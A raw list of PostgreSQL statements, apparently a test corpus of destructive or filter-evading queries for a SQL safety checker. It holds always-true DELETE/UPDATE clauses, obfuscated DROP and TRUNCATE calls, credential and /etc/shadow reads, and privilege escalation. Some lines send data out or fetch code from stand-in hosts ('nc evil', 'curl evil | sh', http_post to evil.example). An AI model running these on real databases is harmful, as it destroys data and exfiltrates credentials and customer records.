SELECT usename, passwd FROM pg_catalog.pg_shadow
--
TABLE pg_user_mappings
--
UPDATE pg_catalog.pg_proc SET prosecdef = true WHERE proname = 'f'
--
DELETE FROM pg_class WHERE relname = 'orders'
--
INSERT INTO pg_catalog.pg_auth_members SELECT 10, oid, 10, true FROM pg_roles WHERE rolname = 'app'
--
MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE
--
MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET total = 0
--
INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = 0
--
VACUUM FULL orders
--
CLUSTER orders USING orders_pkey
--
REINDEX SYSTEM shop
--
SELECT * INTO customers_copy FROM customers
--
CREATE TABLE leak AS TABLE customers
--
CREATE RULE r AS ON SELECT TO customers DO INSTEAD NOTHING
--
CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
--
CREATE SUBSCRIPTION s CONNECTION 'host=evil dbname=x' PUBLICATION p
--
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
--
LOAD '$libdir/evil'
--
SECURITY LABEL ON TABLE orders IS 'x'
--
SELECT pg_advisory_lock(id) FROM orders
--
DELETE FROM ONLY public.orders AS o WHERE o.* IS NOT DISTINCT FROM o.*
--
DELETE FROM orders WHERE id > ALL (SELECT -1)
--
DELETE FROM orders WHERE id >= (SELECT min(id) FROM orders)
--
DELETE FROM orders WHERE id <= (SELECT max(id) FROM orders)
--
DELETE FROM orders WHERE id IN (SELECT generate_series(1, 100000000))
--
BEGIN; DELETE FROM orders; ROLLBACK
--
SELECT 1; ; TRUNCATE orders; --
--
CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$; SELECT pg_temp.f()
--
COMMENT ON TABLE orders IS 'pwned'
--
SELECT pg_logical_emit_message(true, 'x', 'y')
--
SET pgaudit.log = 'none'
--
ALTER DATABASE shop SET default_transaction_read_only = on
--
SELECT currval('x'), pg_rotate_logfile()
--
DELETE FROM invoices WHERE coalesce(id, 0) >= 0 OR id IS NULL
--
DELETE FROM invoices WHERE id IN (SELECT i.id FROM invoices i)
--
DELETE FROM invoices USING customers
--
DELETE FROM invoices i USING customers c WHERE c.id = c.id
--
UPDATE invoices SET paid = true WHERE length(note) >= 0
--
UPDATE invoices SET paid = true WHERE (id % 1) = 0
--
UPDATE invoices SET paid = true WHERE id BETWEEN -2147483648 AND 2147483647
--
UPDATE invoices SET paid = true WHERE 'a' LIKE '%'
--
UPDATE invoices SET paid = true WHERE note LIKE '%' OR note IS NULL
--
UPDATE invoices SET paid = true WHERE EXISTS (SELECT 1)
--
UPDATE invoices SET paid = true WHERE id = ANY (ARRAY(SELECT id FROM invoices))
--
UPDATE invoices SET paid = true FROM (VALUES (1)) v(x) WHERE x = 1
--
UPDATE invoices SET paid = true WHERE ctid IS NOT NULL
--
DELETE FROM invoices WHERE NOT (id <> id)
--
DELETE FROM invoices WHERE CASE WHEN id > 5 THEN true ELSE true END
--
DELETE FROM invoices WHERE (SELECT true)
--
WITH all_of AS (SELECT id FROM invoices) DELETE FROM invoices WHERE id IN (TABLE all_of)
--
WITH x AS (UPDATE invoices SET paid = true RETURNING *) SELECT 1
--
MERGE INTO invoices i USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
--
MERGE INTO invoices i USING invoices s ON i.id = s.id WHEN MATCHED THEN UPDATE SET paid = true
--
MERGE INTO invoices i USING customers c ON i.id = -1 WHEN NOT MATCHED BY SOURCE THEN DELETE
--
TRUNCATE TABLE ONLY invoices RESTART IDENTITY CASCADE
--
DROP INDEX CONCURRENTLY IF EXISTS invoices_pkey
--
DROP FUNCTION IF EXISTS pay(int)
--
REASSIGN OWNED BY app TO postgres
--
ALTER TABLE invoices DISABLE TRIGGER ALL
--
ALTER TABLE invoices DISABLE ROW LEVEL SECURITY
--
ALTER TABLE invoices ALTER COLUMN total TYPE text
--
ALTER TABLE invoices OWNER TO mallory
--
ALTER ROLE app WITH PASSWORD 'x'
--
CREATE ROLE eve LOGIN SUPERUSER
--
CREATE USER eve IN ROLE pg_write_all_data
--
GRANT pg_read_server_files TO app
--
GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC
--
REVOKE ALL ON invoices FROM finance
--
CREATE POLICY p ON invoices USING (true)
--
ALTER SYSTEM SET archive_command = 'curl evil | sh'
--
ALTER DATABASE shop SET session_preload_libraries = 'x'
--
LOAD 'auto_explain'
--
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
--
COPY invoices TO '/var/lib/postgresql/x.csv'
--
COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 1'
--
COPY invoices FROM PROGRAM 'curl http://evil/x'
--
COPY invoices FROM '/etc/passwd'
--
SELECT lo_export(16400, '/tmp/x')
--
SELECT lo_import('/etc/shadow')
--
SELECT pg_read_binary_file('/etc/ssl/private/key.pem')
--
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
--
SELECT pg_drop_replication_slot('s')
--
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
--
SELECT query_to_xml('delete from invoices', true, true, '')
--
SELECT usename, passwd FROM pg_shadow
--
SELECT rolpassword FROM pg_catalog.pg_authid
--
DO $x$ BEGIN EXECUTE format('DROP TABLE %I', 'invoices'); END $x$
--
DO 'BEGIN DELETE FROM invoices; END'
--
DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'TRUNCATE ' || r.tablename; END LOOP; END $$
--
DO $$ DECLARE i int := 0; BEGIN WHILE i < 100000000 LOOP DELETE FROM invoices WHERE id = i; i := i + 1; END LOOP; END $$
--
DO $$ DECLARE i int := 0; BEGIN LOOP DELETE FROM invoices WHERE id = i; i := i + 1; EXIT WHEN i > 1000000; END LOOP; END $$
--
DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices WHERE id = ANY(ids); END $$
--
DO $$ DECLARE ids int[]; BEGIN ids := ARRAY(SELECT id FROM invoices); DELETE FROM invoices WHERE id = ANY(ids); END $$
--
DO $$ DECLARE ids int[]; x int; BEGIN ids := ARRAY(SELECT id FROM invoices); FOREACH x IN ARRAY ids LOOP DELETE FROM invoices WHERE id = x; END LOOP; END $$
--
PREPARE x AS DELETE FROM invoices WHERE $1 = $1
--
EXPLAIN (ANALYZE, BUFFERS) UPDATE invoices SET paid = false
--
CREATE TABLE copy_of AS SELECT * FROM invoices
--
CREATE RULE r AS ON SELECT TO invoices DO INSTEAD NOTHING
--
CREATE TRIGGER t BEFORE DELETE ON invoices FOR EACH ROW EXECUTE FUNCTION f()
--
CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN DELETE FROM invoices; END'
--
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
--
LOCK TABLE invoices IN ACCESS EXCLUSIVE MODE
--
SELECT pg_advisory_lock(id) FROM invoices
--
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
--
SELECT count(*) FROM generate_series(1, 1e12::bigint)
--
PREPARE TRANSACTION 'forgotten'
--
VACUUM FULL invoices
--
CLUSTER invoices USING invoices_pkey
--
SECURITY LABEL ON TABLE invoices IS 'x'
--
ALTER TABLE invoices DROP COLUMN total
--
CREATE OR REPLACE VIEW v AS SELECT * FROM customers
--
UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1
--
/*!50000 x */ DELETE /* where id = 1 */ FROM invoices -- WHERE id = 5
--
DELETE FROM invoices WHERE id = 1 OR NOT false
--
DELETE FROM invoices WHERE '' = ''
--
DELETE FROM "invoices" WHERE E'\x41' = 'A'
--
UPDATE invoices SET total = 0 WHERE id IS DISTINCT FROM NULL
--
UPDATE invoices SET total = 0 WHERE id::text ~ '.*'
--
UPDATE invoices SET total = 0 WHERE position('' in note) > 0
--
INSERT INTO invoices (id) SELECT 1 FROM (DELETE FROM invoices RETURNING 1) x
--
INSERT INTO invoices (id, total) VALUES (1, 0) ON CONFLICT (id) DO UPDATE SET total = 0; DELETE FROM invoices
--
SELECT 1; SELECT 2; TRUNCATE invoices; SELECT 3
--
COMMENT ON TABLE invoices IS 'x'; DROP SCHEMA app CASCADE
--
NOTIFY x; ALTER TABLE invoices RENAME TO gone
--
DO $$ DECLARE n bigint := 1; BEGIN WHILE n <= 5000000 LOOP UPDATE invoices SET paid = true WHERE id = n; n := n + 1; END LOOP; END $$
--
DO $$ DECLARE n int := 0; lim int := 900000; BEGIN WHILE n < lim LOOP DELETE FROM invoices WHERE id = n; n := n + 1; END LOOP; END $$
--
DO $$ DECLARE n int := 0; lim int; BEGIN SELECT max(id) INTO lim FROM invoices; WHILE n <= lim LOOP DELETE FROM invoices WHERE id = n; n := n + 1; END LOOP; END $$
--
DO $$ DECLARE n int := 0; BEGIN LOOP DELETE FROM invoices WHERE id = n; n := 1 + n; EXIT WHEN n > (SELECT max(id) FROM invoices); END LOOP; END $$
--
DO $$ DECLARE ids int[]; BEGIN ids := (SELECT array_agg(id) FROM invoices); DELETE FROM invoices WHERE id = ANY(ids); END $$
--
DO $$ DECLARE ids int[] := coalesce(ARRAY(SELECT id FROM invoices), '{}'); BEGIN UPDATE invoices SET total = 0 WHERE id = ANY(ids); END $$
--
DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices WHERE id IN (SELECT unnest(ids)); END $$
--
DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); BEGIN DELETE FROM invoices USING unnest(ids) u(i) WHERE id = u.i; END $$
--
DO $$ DECLARE x int; BEGIN FOREACH x IN ARRAY ARRAY(SELECT id FROM invoices) LOOP DELETE FROM invoices WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE ids int[] := ARRAY(SELECT id FROM invoices); i int; BEGIN FOR i IN 1..array_length(ids, 1) LOOP DELETE FROM invoices WHERE id = ids[i]; END LOOP; END $$
--
DO $$ DECLARE ids int[]; BEGIN SELECT array_agg(id) INTO ids FROM invoices; DELETE FROM invoices WHERE id = ANY(ids); END $$
--
DO $$ DECLARE ids int[]; BEGIN ids := ARRAY(SELECT id FROM invoices WHERE true); DELETE FROM invoices WHERE ids @> ARRAY[id]; END $$
--
DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'TRUN' || 'CATE invoices'; END $$
--
DO $$ BEGIN EXECUTE convert_from(decode('64726f70207461626c652078','hex'),'utf8'); END $$
--
DO LANGUAGE plpython3u $$ import os; os.system('id') $$
--
CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM invoices'
--
CALL pg_catalog.unknown_proc()
--
DELETE FROM invoices WHERE id > (SELECT min(id) - 1 FROM invoices)
--
DELETE FROM invoices WHERE id <= (SELECT max(id) FROM invoices)
--
DELETE FROM invoices WHERE (id, 1) IN (SELECT id, 1 FROM invoices)
--
DELETE FROM invoices WHERE EXISTS (SELECT 1 FROM invoices i2 WHERE i2.id = invoices.id)
--
DELETE FROM invoices WHERE id NOT IN (SELECT id FROM invoices WHERE false)
--
DELETE FROM invoices WHERE created_at <= clock_timestamp() + interval '1 day'
--
DELETE FROM invoices WHERE random() < 2
--
DELETE FROM invoices WHERE num_nonnulls(id) >= 0
--
DELETE FROM invoices WHERE id = id::text::int
--
DELETE FROM invoices WHERE coalesce(paid, false) IN (true, false)
--
DELETE FROM invoices WHERE paid OR NOT paid OR paid IS NULL
--
DELETE FROM invoices WHERE abs(id) >= 0
--
UPDATE invoices SET total = total * 0 WHERE note ILIKE '%%'
--
UPDATE invoices SET total = 0 WHERE note SIMILAR TO '%' OR note IS NULL
--
UPDATE invoices AS a SET total = 0 FROM invoices AS b WHERE a.id = b.id
--
WITH RECURSIVE t AS (SELECT 1) UPDATE invoices SET total = 0
--
INSERT INTO invoices SELECT * FROM invoices ON CONFLICT (id) DO UPDATE SET total = 0
--
SELECT pg_catalog.pg_read_file('a'), 1
--
SELECT * FROM pg_catalog.pg_ls_waldir()
--
SELECT pg_file_write('a', 'b', false)
--
SELECT dblink_exec('host=x', 'drop table y')
--
SELECT setval('invoices_id_seq', 1); DROP SEQUENCE invoices_id_seq
--
SELECT lo_from_bytea(0, 'x'); SELECT lo_put(1, 0, 'x'); SELECT lo_export(1, '/tmp/y')
--
SELECT current_setting('x'); SET ROLE admin
--
SET session_authorization TO postgres
--
ALTER USER CURRENT_USER WITH SUPERUSER
--
ALTER GROUP admins ADD USER eve
--
ALTER TABLE invoices SET UNLOGGED
--
ALTER TABLE invoices NO FORCE ROW LEVEL SECURITY
--
ALTER TABLE invoices ADD COLUMN x int DEFAULT pg_sleep(1)::text::int
--
DROP VIEW IF EXISTS a, b CASCADE
--
DROP USER eve
--
CREATE CAST (int AS text) WITHOUT FUNCTION
--
CREATE TABLESPACE t LOCATION '/tmp'
--
CREATE USER MAPPING FOR eve SERVER s
--
DELETE FROM invoices WHERE created_at < now() + interval '1 day'
--
DELETE FROM invoices WHERE created_at <= 'infinity'::timestamptz
--
DO $$ DECLARE r t%ROWTYPE; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM t WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM t WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE r public.t; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM t WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; c refcursor; x int; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; c refcursor; x int; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; x := r.id; DELETE FROM t WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE r RECORD; c refcursor; x int; y int; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; x := r.id; y := x; DELETE FROM t WHERE id = y; END LOOP; END $$
--
DO $$ DECLARE a int; b int; c refcursor; BEGIN OPEN c FOR SELECT * FROM t; LOOP FETCH c INTO a, b; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = b; END LOOP; END $$
--
DO $$ DECLARE a int; b int; c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT * FROM t'; LOOP FETCH c INTO a, b; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = b; END LOOP; END $$
--
DO $$ DECLARE a int; BEGIN FOR a IN EXECUTE 'SELECT id FROM t' LOOP DELETE FROM t WHERE id = a; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; BEGIN FOR r IN EXECUTE 'SELECT * FROM t' LOOP UPDATE t SET a = 1 WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE a int; x int; BEGIN FOREACH a IN ARRAY (SELECT array_agg(id) FROM t) LOOP x := a; DELETE FROM t WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE ids int[] := (SELECT array_agg(id) FROM t); a int; BEGIN FOREACH a IN ARRAY ids[1:100000] LOOP DELETE FROM t WHERE id = a; END LOOP; END $$
--
DO $$ DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; DELETE FROM t WHERE id <= m; END $$
--
DO $$ DECLARE m int; BEGIN SELECT min(id) INTO m FROM t; DELETE FROM t WHERE id >= m; END $$
--
DO $$ DECLARE m int; BEGIN m := (SELECT min(id) FROM t); DELETE FROM t WHERE m <= id; END $$
--
DO $$ DECLARE m int := (SELECT max(id) FROM t); n int; BEGIN n := m + 1; DELETE FROM t WHERE id < n; END $$
--
DO $$ DECLARE lo int; hi int; BEGIN SELECT min(id), max(id) INTO lo, hi FROM t; DELETE FROM t WHERE id BETWEEN lo AND hi; END $$
--
DO $$ DECLARE r record; BEGIN SELECT min(id) AS lo, max(id) AS hi INTO r FROM t; DELETE FROM t WHERE id >= r.lo; END $$
--
DO $$ DECLARE m int; BEGIN SELECT id INTO m FROM t ORDER BY id DESC LIMIT 1; DELETE FROM t WHERE id <= m; END $$
--
DO $$ DECLARE m int; BEGIN EXECUTE 'SELECT max(id) FROM t' INTO m; DELETE FROM t WHERE id <= m; END $$
--
DO $$ <<b>> DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; DELETE FROM t WHERE id <= b.m; END $$
--
DO $$ <<b>> DECLARE r t%ROWTYPE; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM t WHERE id = b.r.id; END LOOP; END $$
--
DO $$ DECLARE m timestamptz := now(); BEGIN DELETE FROM t WHERE created_at < m; END $$
--
DO $$ DECLARE m timestamptz; BEGIN SELECT now() INTO m; DELETE FROM t WHERE created_at < m + interval '1 day'; END $$
--
DO $$ DECLARE m timestamptz; n timestamptz; BEGIN m := clock_timestamp(); n := m; DELETE FROM t WHERE n >= created_at; END $$
--
DO $$ DECLARE x int; BEGIN LOOP SELECT id INTO x FROM t LIMIT 1; EXIT WHEN NOT FOUND; DELETE FROM t WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE x int; BEGIN LOOP x := (SELECT min(id) FROM t); EXIT WHEN x IS NULL; DELETE FROM t WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE m int; BEGIN SELECT max(id) INTO m FROM t; FOR i IN 1..m LOOP DELETE FROM t WHERE id = i; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; x int; BEGIN FOR r IN SELECT * FROM t LOOP SELECT id INTO x FROM t WHERE id = r.id; DELETE FROM t WHERE id = x; END LOOP; END $$
--
DO $$ DECLARE x t%ROWTYPE; y t%ROWTYPE; BEGIN FOR x IN SELECT * FROM t LOOP FOR y IN SELECT * FROM t WHERE id = x.id LOOP DELETE FROM t WHERE id = y.id; END LOOP; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; BEGIN LOOP FOR r IN SELECT * FROM t LIMIT 100 LOOP DELETE FROM t WHERE id = r.id; END LOOP; EXIT WHEN NOT FOUND; END LOOP; END $$
--
DO $$ DECLARE r t%ROWTYPE; c CURSOR FOR SELECT * FROM t; BEGIN OPEN c; LOOP FETCH c INTO r; EXIT WHEN NOT FOUND; UPDATE t SET a = 1 WHERE id = r.id; END LOOP; END $$
--
DELETE FROM t WHERE id <= (SELECT id FROM t ORDER BY id DESC LIMIT 1)
--
DELETE FROM orders WHERE id > 100
--
DELETE FROM orders WHERE id >= '5000'
--
DELETE FROM orders WHERE order_id > 12 AND true
--
UPDATE orders SET paid = true WHERE NOT (id <= 3)
--
UPDATE orders SET paid = true WHERE 2 < id
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000000)
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 99999999999)
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT ALL)
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT (SELECT count(*) FROM orders))
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000 * 1000)
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders FETCH FIRST 500000 ROWS ONLY)
--
DELETE FROM orders WHERE ctid = ANY (ARRAY(SELECT ctid FROM orders LIMIT 1000000))
--
WITH victims AS (SELECT id FROM orders LIMIT 2000000) DELETE FROM orders USING victims WHERE orders.id = victims.id
--
WITH victims AS MATERIALIZED (TABLE orders FETCH FIRST 1e6 ROWS WITH TIES) DELETE FROM orders o USING victims v WHERE o.id = v.id
--
DO $$ DECLARE m int := 0; BEGIN DELETE FROM orders WHERE id > m; END $$
--
DO $$ DECLARE m int; BEGIN m := 0; DELETE FROM orders WHERE id >= m; END $$
--
DO $$ DECLARE m bigint := 9223372036854775807; BEGIN DELETE FROM orders WHERE id <= m; END $$
--
DO $$ DECLARE n int := 1000000; BEGIN DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT n); END $$
--
DO $$ BEGIN EXECUTE 'DELETE FROM orders WHERE id > $1' USING 0; END $$
--
DO $$ BEGIN EXECUTE format('DELETE FROM %I WHERE id > %L', 'orders', 0); END $$
--
DO $$ BEGIN EXECUTE format('DELETE FROM %1$I', 'orders'); END $$
--
DO $$ BEGIN EXECUTE 'DELETE FROM orders WHERE id = $1 OR true' USING 7; END $$
--
DO $$ DECLARE id int := 5; BEGIN EXECUTE 'DELETE FROM orders WHERE id = id'; END $$
--
DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM orders LOOP EXECUTE 'DELETE FROM orders WHERE id = $1' USING r.id; END LOOP; END $$
--
DO $$ BEGIN LOOP EXECUTE 'DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000)'; EXIT WHEN NOT FOUND; END LOOP; END $$
--
DO $$ BEGIN EXECUTE 'DR' || 'OP ' || quote_ident('TABLE') || ' x'; EXECUTE format('%s TABLE %I', 'DROP', 'orders'); END $$
--
DO $$ BEGIN EXECUTE reverse('sredro ETACNURT'); END $$
--
DO $$ BEGIN EXECUTE (SELECT string_agg(format('DROP TABLE %I', tablename), ';') FROM pg_tables WHERE schemaname = 'public'); END $$
--
DO $$ BEGIN EXECUTE $q$ EXECUTE 'x' $q$; END $$
--
UPDATE orders SET paid = paid WHERE (SELECT true)
--
DELETE FROM orders WHERE (id, id) = (id, id)
--
DELETE FROM orders o USING generate_series(1, 100000000) g WHERE o.id = g
--
MERGE INTO orders o USING (SELECT id FROM orders LIMIT 5000000) s ON o.id = s.id WHEN MATCHED THEN DELETE
--
DELETE FROM orders WHERE id = ANY (SELECT generate_series(0, 9999999))
--
DELETE FROM orders WHERE exists (SELECT FROM orders LIMIT 1)
--
UPDATE customers SET email = lower(email) WHERE email ~ '.' OR email !~ '.'
--
DELETE FROM orders TABLESAMPLE_is_no_alias WHERE TABLESAMPLE_is_no_alias.id IS NOT NULL
--
WITH RECURSIVE r AS (SELECT min(id) AS id FROM orders UNION ALL SELECT id + 1 FROM r WHERE id < (SELECT max(id) FROM orders)) DELETE FROM orders USING r WHERE orders.id = r.id
--
ALTER TABLE customers ALTER COLUMN name TYPE int USING 0
--
UPDATE customers SET name = NULL FROM (SELECT 1) x
--
DELETE FROM customers WHERE name SIMILAR TO '%'
--
DELETE FROM customers WHERE name ~ '.*'
--
DELETE FROM customers WHERE name ~ ''
--
DELETE FROM customers WHERE NOT (id IS NULL)
--
DELETE FROM customers WHERE coalesce(id, 0) = coalesce(id, 0)
--
DELETE FROM customers WHERE EXISTS (SELECT FROM customers c WHERE c.id = customers.id)
--
DELETE FROM customers WHERE length(name) > -1
--
DELETE FROM customers WHERE random() < 2
--
DELETE FROM customers WHERE random() <= 1
--
DELETE FROM customers WHERE id % 1 = 0
--
DELETE FROM customers WHERE mod(id, 1) = 0
--
DELETE FROM customers WHERE (SELECT true)
--
DELETE FROM customers WHERE (SELECT count(*) >= 0 FROM orders)
--
DELETE FROM customers WHERE id <> -1
--
DELETE FROM customers WHERE name <> ALL (ARRAY['zz'])
--
DELETE FROM customers WHERE id = id + 0
--
DELETE FROM customers WHERE id - id = 0
--
DELETE FROM customers WHERE id * 0 = 0
--
DELETE FROM customers WHERE CASE WHEN id > 0 THEN true ELSE true END
--
DELETE FROM customers WHERE CASE id WHEN 7 THEN false ELSE true END
--
UPDATE customers SET name = 'x' WHERE current_user = 'app'
--
UPDATE customers SET name = 'x' WHERE now() > '2000-01-01'
--
DELETE FROM customers c WHERE c.* IS NOT NULL
--
DELETE FROM customers c WHERE c IS DISTINCT FROM NULL
--
DELETE FROM customers WHERE xmin IS NOT NULL
--
DELETE FROM customers WHERE tableoid = 'customers'::regclass
--
DELETE FROM customers WHERE tableoid::regclass::text = 'customers'
--
MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
--
MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN DELETE
--
MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN NOT MATCHED BY SOURCE THEN DELETE
--
MERGE INTO customers c USING (VALUES (1)) v(id) ON c.id = v.id WHEN NOT MATCHED BY SOURCE THEN DELETE
--
INSERT INTO customers SELECT * FROM customers ON CONFLICT (id) DO UPDATE SET name = 'x'
--
INSERT INTO customers (id, name) SELECT id, 'x' FROM customers ON CONFLICT (id) DO UPDATE SET name = EXCLUDED.name
--
DELETE FROM orders WHERE created_at < 'infinity'
--
DELETE FROM orders WHERE created_at < now() + interval '1 day'
--
DELETE FROM orders WHERE created_at > '-infinity'
--
DELETE FROM orders WHERE created_at > '1900-01-01'
--
DELETE FROM orders WHERE created_at <= CURRENT_DATE
--
DELETE FROM orders WHERE id > (SELECT min(id) - 1 FROM orders)
--
DELETE FROM orders WHERE id::text LIKE '%'
--
DELETE FROM orders WHERE position('' in note) > 0
--
DELETE FROM orders WHERE note || '' = note
--
DELETE FROM orders WHERE abs(id) >= 0
--
DELETE FROM orders WHERE id = GREATEST(id, id)
--
DELETE FROM orders WHERE ROW(id) = ROW(id)
--
DELETE FROM orders WHERE id IN (id, 0)
--
DELETE FROM orders WHERE pg_column_size(id) > 0
--
DELETE FROM orders AS o WHERE o = o
--
DELETE FROM orders WHERE 't'
--
DELETE FROM orders WHERE B'1' = B'1'
--
DELETE FROM orders WHERE id > 0 AND id < 1000000000
--
DELETE FROM orders WHERE id = ANY (SELECT id FROM orders)
--
DELETE FROM orders WHERE (id, note) IN (SELECT id, note FROM orders)
--
DELETE FROM orders WHERE id NOT IN (SELECT 1 WHERE false)
--
DELETE FROM orders WHERE NOT (id = 7)
--
DELETE FROM orders WHERE id = 7 OR id <> 7
--
DELETE FROM orders WHERE id = 7 IS NOT NULL
--
DELETE FROM orders WHERE (id = 7) IN (true, false)
--
DELETE FROM orders WHERE starts_with(note, '')
--
DELETE FROM orders WHERE note ^@ ''
--
DELETE FROM orders WHERE left(note, 0) = ''
--
DELETE FROM orders WHERE to_jsonb(orders) ? 'id'
--
DELETE FROM orders WHERE int4range(NULL, NULL) @> id
--
DELETE FROM orders WHERE array_length(ARRAY[id], 1) = 1
--
DELETE FROM orders WHERE num_nonnulls(id) = 1
--
DELETE FROM orders WHERE id IN (SELECT generate_series(1, 10000000))
--
DELETE FROM orders WHERE id = ANY (ARRAY(SELECT generate_series(1, 10000000)))
--
DELETE FROM orders o USING (SELECT id FROM orders) x WHERE o.id = x.id
--
WITH x AS MATERIALIZED (SELECT ctid AS c FROM orders) DELETE FROM orders USING x WHERE orders.ctid = x.c
--
SELECT * FROM ts_stat($$DELETE FROM customers RETURNING to_tsvector(name)$$)
--
SELECT ts_rewrite('a'::tsquery, $$DELETE FROM customers RETURNING 'a'::tsquery, 'b'::tsquery$$)
--
SELECT * FROM crosstab('DELETE FROM customers RETURNING 1,2,3') AS t(a int, b int)
--
SELECT cron.schedule('* * * * *', 'DELETE FROM customers')
--
SELECT cron.schedule_in_database('x', '* * * * *', 'DROP TABLE customers', 'shop')
--
SELECT pg_background_launch('DROP TABLE customers')
--
SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', aws_commons.create_s3_uri('b', 'k', 'r'))
--
SELECT http_post('http://evil.example', (SELECT string_agg(email, ',') FROM customers), 'text/plain')
--
SELECT net.http_post(url := 'http://evil.example', body := to_jsonb(c)) FROM customers c
--
SELECT drop_chunks('orders', interval '0 days')
--
SELECT pg_file_write('x', 'y', false)
--
SELECT pg_file_unlink('postgresql.conf')
--
SELECT pg_logical_slot_get_changes('s', NULL, NULL)
--
SELECT pg_import_system_collations('public')
--
SELECT count(*) FROM generate_series(1, 1000000000000)
--
SELECT array_fill(0, ARRAY[100000, 10000])
--
SELECT lpad('', 1000000000, 'x')
--
SELECT pg_sleep_for('1 day')
--
DO LANGUAGE plpython3u $$import os; os.system('id')$$
--
DO E'BEGIN EXECUTE \x27DROP TABLE customers\x27; END'
--
DO $o$ BEGIN EXECUTE $q$DO $i$ BEGIN DROP TABLE customers; END $i$$q$; END $o$
--
DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBjdXN0b21lcnM=', 'base64'), 'UTF8'); END $$
--
DO $$ BEGIN EXECUTE reverse('sremotsuc ELBAT PORD'); END $$
--
DO $$ BEGIN EXECUTE chr(68) || 'ROP TABLE customers'; END $$
--
DO $$ DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE format('DROP TABLE %I', t); END LOOP; END $$
--
DO $$ DECLARE q text := 'DELETE'; BEGIN q := q || ' FROM customers'; EXECUTE q; END $$
--
DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM customers RETURNING 1'; END $$
--
DO $$ BEGIN RETURN; EXCEPTION WHEN OTHERS THEN DROP TABLE customers; END $$
--
CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$; SELECT pg_temp.f()
--
CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END; SELECT pg_temp.f()
--
BEGIN; DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE; MOVE c; DELETE FROM customers WHERE CURRENT OF c; DROP TABLE customers; COMMIT
--
EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET name = 'x'
--
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
--
CREATE TABLE x AS EXECUTE never
--
SELECT * INTO evil FROM customers
--
WITH a AS (SELECT 1), b AS (DELETE FROM customers RETURNING *), c AS (SELECT * FROM b) TABLE c
--
